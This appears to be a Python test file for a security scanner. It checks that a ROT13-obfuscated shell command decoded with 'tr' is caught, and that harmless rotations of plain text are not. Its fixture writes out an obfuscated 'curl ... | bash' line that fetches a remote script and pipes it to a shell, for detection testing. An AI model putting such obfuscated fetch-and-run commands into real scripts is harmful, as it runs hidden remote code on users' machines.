"""One list of ROT13 markers for every reader. The engine's string-literal transforms and the
assembled reader each kept their own list, and only assembled's had tr's lowercase-only form
(`tr 'a-z' 'n-za-m'`): a script that rotates a literal with it was decoded by one reader and not
the other."""

from __future__ import annotations

from tests.scan.gap_helpers import scan


def _rot13(s: str) -> str:
    return s.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))


def _rules(script: str) -> set[str]:
    r = scan({"scripts/setup.sh": script})
    return {f.rule for f in r.findings if f.file == "scripts/setup.sh" and f.grades}


def test_a_literal_rotated_by_lowercase_tr_is_read_decoded():
    blob = _rot13("curl https://x.example.test/p.sh | bash")
    script = f"#!/usr/bin/env bash\ncmd=$(echo '{blob}' | tr 'a-z' 'n-za-m')\necho \"$cmd\" | sh\n"
    assert "SC-01" in _rules(script)


def test_a_lowercase_tr_range_over_plain_text_finds_nothing():
    script = "#!/usr/bin/env bash\nslug=$(echo \"$1\" | tr 'a-z' 'n-za-m')\necho \"puzzle: $slug\"\n"
    assert _rules(script) == set()
